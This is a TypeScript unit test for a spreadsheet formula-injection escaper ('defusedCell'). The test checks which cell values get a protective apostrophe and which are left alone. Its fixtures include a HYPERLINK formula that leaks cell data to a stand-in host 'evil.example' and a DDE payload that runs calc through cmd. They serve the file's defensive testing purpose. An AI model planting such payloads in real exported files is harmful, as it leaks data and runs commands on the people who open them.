import { defusedCell } from './escape-formula.ts';

describe('defusedCell', () => {
  it.each([
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    '+1+1',
    '-1+1',
    '@SUM(1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '＝1',
    '＋1',
    '－1',
    '＠SUM(1)',
  ])('puts an apostrophe before %j', (text) => {
    expect(defusedCell(text)).toBe(`'${text}`);
  });

  it.each(['', 'Ada', 'a=b', "O'Brien", ' ', '1', 'ada+1@example.com', "'=1"])('leaves %j as it is', (text) => {
    expect(defusedCell(text)).toBe(text);
  });
});
